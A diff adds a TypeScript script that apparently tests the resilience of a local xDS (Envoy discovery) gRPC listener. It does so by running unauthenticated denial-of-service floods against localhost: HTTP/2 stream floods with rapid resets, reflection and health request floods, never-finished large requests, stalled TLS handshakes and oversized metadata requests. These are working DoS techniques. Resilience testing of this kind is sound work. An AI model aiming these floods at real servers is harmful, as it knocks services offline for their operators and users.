@@ -1,0 +1,201 @@
+// Run as a process of its own: PORT KIND MILLISECONDS. Attacks the xDS listener at PORT of this machine, without
+// credentials, and ends by itself. Prints `attacking` when it has begun, and at the end how often it was cut off.
+import { connect as connectHttp2 } from 'node:http2';
+import { connect } from 'node:net';
+import { data, firstHeaders, hello, message, moreHeaders, reset } from './http2-frames.ts';
+
+const [portText, kind = '', millisecondsText] = process.argv.slice(2);
+const [port, milliseconds] = [Number(portText), Number(millisecondsText)];
+
+const ads = '/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources';
+const reflection = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
+const health = '/grpc.health.v1.Health/Check';
+const subscription = Buffer.concat([
+  lengthDelimited(2, Buffer.from('type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.Secret')),
+  lengthDelimited(3, Buffer.from('ALL')),
+]);
+
+let cutOff = 0;
+let isFirst = true;
+function begun(): void {
+  if (isFirst) console.log('attacking');
+  isFirst = false;
+}
+
+interface Flood {
+  readonly connections: number;
+  readonly path: string;
+  /** What follows the headers of each stream. */
+  readonly follow: (stream: number) => Buffer;
+  /** Whether responses are read. */
+  readonly reads?: boolean;
+  /** Streams of one connection; no limit if not given. */
+  readonly most?: number;
+}
+
+const nothing = Buffer.alloc(0);
+/** `file_containing_symbol`, twenty times. */
+const reflectionRequests = Buffer.concat(
+  Array.from({ length: 20 }, () =>
+    message(lengthDelimited(4, Buffer.from('envoy.service.discovery.v3.DiscoveryRequest'))),
+  ),
+);
+
+const floods: Readonly<Record<string, Flood>> = {
+  'unknown-method': { connections: 2, path: '/unknown.Service/Method', follow: () => nothing },
+  'streams-without-request': { connections: 2, path: ads, follow: () => nothing },
+  resets: { connections: 4, path: ads, follow: reset },
+  'requests-and-resets': {
+    connections: 4,
+    path: ads,
+    follow: (stream) => Buffer.concat([data(stream, message(subscription)), reset(stream)]),
+  },
+  requests: { connections: 4, path: ads, follow: (stream) => data(stream, message(subscription)) },
+  reflection: {
+    connections: 2,
+    path: reflection,
+    follow: (stream) => data(stream, reflectionRequests),
+    reads: false,
+  },
+  health: { connections: 2, path: health, follow: (stream) => data(stream, message(nothing)) },
+};
+
+function flood({ connections, path, follow, reads = true }: Flood): void {
+  for (let index = 0; index < connections; index += 1) open();
+
+  function open(): void {
+    const socket = connect(port, '127.0.0.1');
+    let stream = 1;
+    let isOpen = true;
+    const write = (): void => {
+      if (!isOpen) return;
+      const frames: Buffer[] = stream === 1 ? [hello, firstHeaders(1, path), follow(1)] : [];
+      for (let count = 0; count < 1000; count += 1) {
+        stream += 2;
+        frames.push(moreHeaders(stream), follow(stream));
+      }
+      if (socket.write(Buffer.concat(frames))) setImmediate(write);
+      begun();
+    };
+    socket.on('connect', write);
+    socket.on('drain', write);
+    if (reads) socket.resume();
+    socket.on('error', () => undefined);
+    socket.on('close', () => {
+      isOpen = false;
+      cutOff += 1;
+      setTimeout(open, 20);
+    });
+  }
+}
+
+/** Requests that are never complete, on many streams of three connections. */
+function unfinished(): void {
+  const most = message(Buffer.alloc(500_000)).subarray(0, 499_000);
+  for (let index = 0; index < 3; index += 1) open();
+
+  function open(): void {
+    const session = connectHttp2(`http://127.0.0.1:${port}`);
+    session.on('error', () => undefined);
+    session.on('close', () => {
+      cutOff += 1;
+      setTimeout(open, 20);
+    });
+    session.on('connect', () => {
+      for (let count = 0; count < 200; count += 1) {
+        const headers = {
+          ':method': 'POST',
+          ':path': ads,
+          'content-type': 'application/grpc',
+          te: 'trailers',
+        };
+        session
+          .request(headers)
+          .on('error', () => undefined)
+          .write(most);
+      }
+      begun();
+    });
+  }
+}
+
+/** TLS handshakes that stop after the first bytes. */
+function handshakes(): void {
+  for (let index = 0; index < 2_000; index += 1) open();
+
+  function open(): void {
+    const socket = connect(port, '127.0.0.1', () => {
+      // The header of a record, and the beginning of a ClientHello.
+      socket.write(Buffer.from('16030102000100', 'hex'));
+      begun();
+    });
+    socket.on('error', () => undefined);
+    socket.on('close', () => {
+      cutOff += 1;
+      setTimeout(open, 20);
+    });
+  }
+}
+
+/** First requests whose node has as many fields of metadata as fit, one after the other. */
+function metadata(): void {
+  const request = message(requestWithMetadata());
+  for (let index = 0; index < 4; index += 1) open();
+
+  function open(): void {
+    const session = connectHttp2(`http://127.0.0.1:${port}`);
+    session.on('error', () => undefined);
+    session.on('close', () => {
+      cutOff += 1;
+      setTimeout(open, 20);
+    });
+    const next = (): void => {
+      if (session.destroyed) return;
+      const headers = { ':method': 'POST', ':path': ads, 'content-type': 'application/grpc', te: 'trailers' };
+      const stream = session.request(headers);
+      stream.on('error', () => undefined);
+      stream.once('data', () => stream.close());
+      stream.once('close', () => setImmediate(next));
+      stream.write(request);
+      begun();
+    };
+    session.on('connect', next);
+  }
+}
+
+/** A request for the joint secret, of just below 512 KiB, nearly all of it fields of metadata. */
+function requestWithMetadata(): Buffer {
+  const fields = Array.from({ length: 33_000 }, (_, index) => {
+    const key = Buffer.from(index.toString(36).padStart(4, '0'));
+    return Buffer.concat([
+      Buffer.from([0x0a, 12, 0x0a, 4]),
+      key,
+      Buffer.from([0x12, 4, 0x1a, 2, 0x61, 0x62]),
+    ]);
+  });
+  const node = lengthDelimited(1, lengthDelimited(3, Buffer.concat(fields)));
+  return Buffer.concat([node, subscription]);
+}
+
+function lengthDelimited(field: number, value: Buffer): Buffer {
+  const length: number[] = [];
+  for (let rest = value.length; ; rest >>>= 7) {
+    if (rest < 128) {
+      length.push(rest);
+      break;
+    }
+    length.push((rest & 127) | 128);
+  }
+  return Buffer.concat([Buffer.from([field * 8 + 2, ...length]), value]);
+}
+
+const found = floods[kind];
+if (found !== undefined) flood(found);
+else if (kind === 'unfinished') unfinished();
+else if (kind === 'metadata') metadata();
+else if (kind === 'handshakes') handshakes();
+else throw new Error(`no attack ${kind}`);
+setTimeout(() => {
+  console.log(`cut off ${cutOff} times`);
+  process.exit();
+}, milliseconds);
